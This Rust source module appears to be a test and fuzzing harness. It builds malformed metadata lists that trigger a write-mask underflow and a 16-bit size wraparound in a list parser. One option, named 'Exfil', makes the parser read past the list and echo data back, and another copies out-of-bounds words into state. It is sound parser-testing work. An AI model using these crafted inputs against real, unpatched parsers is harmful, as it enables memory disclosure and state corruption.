// SPDX-License-Identifier: Apache-2.0
//! Hand-built metadata lists that exercise the list parser's size and
//! write-mask arithmetic.
//!
//! All of them target the VP context and start with XBUFF, which is the
//! first VP entry and has enough one-element fields to fill a list.

use rand::Rng;

use crate::catalog::{Catalog, FieldEntry, FieldPos};
use crate::codec::{pack_lists, FieldRecord};
use crate::field_id::{MdContext, MdFieldId};
use crate::md_list::{MdList, MdListHeader, MdSequence, MD_LIST_HEADER_SIZE, MD_LIST_SIZE};

/// Fields in the first sequence of every crafted list: it ends exactly
/// 24 bytes before the end of the list.
pub const LEAD_FIELDS: u32 = 507;
/// List offset of the second sequence header.
pub const SECOND_SEQ_OFFSET: usize = MD_LIST_HEADER_SIZE + 8 + 8 * LEAD_FIELDS as usize;
/// Fields claimed by the second sequence.
pub const SECOND_SEQ_FIELDS: u32 = 512;
/// Arena offset of the header read that follows the second sequence once
/// the per-field mask reads have doubled its stride.
pub const V2_TRAILING_HEADER: usize = SECOND_SEQ_OFFSET + 8 + 8 * 2 * SECOND_SEQ_FIELDS as usize;

/// Default value planted at [`V2_TRAILING_HEADER`]. Its context bits are
/// invalid, so it ends the parse as a bad field id and is echoed back.
pub const V2_SENTINEL: u64 = 0x00ff_ff9c_0000_4010;

fn xbuff(catalog: &Catalog) -> &FieldEntry {
    catalog.by_name(MdContext::Vp, "XBUFF").expect("catalog has XBUFF")
}

fn seq_header(e: &FieldEntry, first_field: u32, fields: u32, masked: bool) -> MdFieldId {
    let mut h = e.element_id(first_field, 0);
    h.last_field_in_sequence = (fields - 1) as u16;
    h.write_mask_valid = masked;
    h
}

/// Recognizable filler for XBUFF field `i`.
pub fn filler(i: u32) -> u64 {
    0x5842_0000_0000_0000 | i as u64
}

fn lead_sequence(e: &FieldEntry) -> MdSequence {
    MdSequence { header: seq_header(e, 0, LEAD_FIELDS, false), elements: (0..LEAD_FIELDS).map(filler).collect() }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum V2Option {
    /// A third sequence header is expected right after the runaway
    /// sequence; the planted word read there is reported back.
    Exfil,
    /// The runaway sequence is the last one, so the out-of-list words land
    /// in XBUFF and the import carries on.
    CopyIntoState,
}

/// First list of the write-mask underflow bundle. The second sequence
/// declares 512 masked XBUFF fields but only one mask and one value fit.
pub fn v2_first_list(catalog: &Catalog, option: V2Option) -> MdList {
    let e = xbuff(catalog);
    let second = MdSequence {
        header: seq_header(e, LEAD_FIELDS, SECOND_SEQ_FIELDS, true),
        elements: vec![u64::MAX, filler(LEAD_FIELDS)],
    };
    let mut list = MdList::from_sequences(&[lead_sequence(e), second]).expect("fills exactly one list");
    if option == V2Option::Exfil {
        list.header.num_sequences = 3;
    }
    list
}

/// XBUFF position the import resumes at after a vulnerable run of the
/// crafted first list.
pub fn v2_resume_pos(catalog: &Catalog) -> FieldPos {
    let entry = catalog.index_of(MdContext::Vp, "XBUFF").expect("catalog has XBUFF");
    FieldPos { entry, field: LEAD_FIELDS + SECOND_SEQ_FIELDS }
}

/// Full VP bundle payload: the crafted first list followed by `rest`, the
/// records of an honest export from [`v2_resume_pos`] onwards.
pub fn v2_lists(catalog: &Catalog, option: V2Option, honest: &[FieldRecord]) -> Vec<MdList> {
    let from = v2_resume_pos(catalog);
    let rest: Vec<FieldRecord> = honest.iter().filter(|r| r.pos >= from).cloned().collect();
    let mut lists = vec![v2_first_list(catalog, option)];
    lists.extend(pack_lists(catalog, MdContext::Vp, &rest));
    lists
}

/// A list whose header claims `list_buff_size` bytes (less than the
/// header itself for the interesting cases) but holds two full-size
/// XBUFF sequences, the second running past the list.
pub fn short_header_list(catalog: &Catalog, list_buff_size: u16) -> MdList {
    let e = xbuff(catalog);
    let lead = lead_sequence(e);
    let mut words = vec![lead.header.raw()];
    words.extend(&lead.elements);
    words.push(seq_header(e, LEAD_FIELDS, SECOND_SEQ_FIELDS, false).raw());
    words.extend((LEAD_FIELDS..LEAD_FIELDS + SECOND_SEQ_FIELDS).map(filler));
    MdList::from_words(MdListHeader { list_buff_size, num_sequences: 2, reserved: 0 }, &words)
}

/// Where the list-size oracle says the parser starts: remaining bytes
/// after the list header, in 16-bit wrapping arithmetic.
pub fn wrapped_remaining(list_buff_size: u16) -> u16 {
    list_buff_size.wrapping_sub(MD_LIST_HEADER_SIZE as u16)
}

/// Random mutation of one of the crafted lists, for parser fuzzing:
/// header fields, sequence headers and a few body words are perturbed.
pub fn fuzz_list<R: Rng + ?Sized>(catalog: &Catalog, rng: &mut R) -> MdList {
    let mut list = match rng.random_range(0..3) {
        0 => v2_first_list(catalog, V2Option::Exfil),
        1 => v2_first_list(catalog, V2Option::CopyIntoState),
        _ => short_header_list(catalog, rng.random_range(0..=MD_LIST_SIZE as u16 + 64)),
    };
    if rng.random_bool(0.5) {
        list.header.list_buff_size = rng.random();
    }
    if rng.random_bool(0.5) {
        list.header.num_sequences = rng.random_range(0..8);
    }
    let e = xbuff(catalog);
    if rng.random_bool(0.7) {
        let first = rng.random_range(0..e.num_of_fields - 1);
        let fields = rng.random_range(1..=SECOND_SEQ_FIELDS.min(e.num_of_fields - first));
        let h = seq_header(e, first, fields, rng.random_bool(0.5));
        let at = MD_LIST_HEADER_SIZE + 8 * rng.random_range(0..(MD_LIST_SIZE - MD_LIST_HEADER_SIZE) / 8);
        list.set_word(at, h.raw());
    }
    for _ in 0..rng.random_range(0..4) {
        let at = MD_LIST_HEADER_SIZE + 8 * rng.random_range(0..(MD_LIST_SIZE - MD_LIST_HEADER_SIZE) / 8);
        let v = if rng.random_bool(0.5) { rng.random() } else { rng.random_range(0..4u64) };
        list.set_word(at, v);
    }
    list
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn layout_offsets() {
        assert_eq!(SECOND_SEQ_OFFSET, 4072);
        assert_eq!(V2_TRAILING_HEADER, 12272);
        let l = v2_first_list(Catalog::builtin(), V2Option::CopyIntoState);
        assert_eq!(l.header.list_buff_size as usize, MD_LIST_SIZE);
        assert_eq!(l.word_at(4080), Some(u64::MAX));
        assert_eq!(MdFieldId::decode(V2_SENTINEL).context(), None);
    }

    #[test]
    fn wrap_oracle() {
        assert_eq!(wrapped_remaining(0), 65528);
        assert_eq!(wrapped_remaining(7), 65535);
        assert_eq!(wrapped_remaining(8), 0);
    }
}
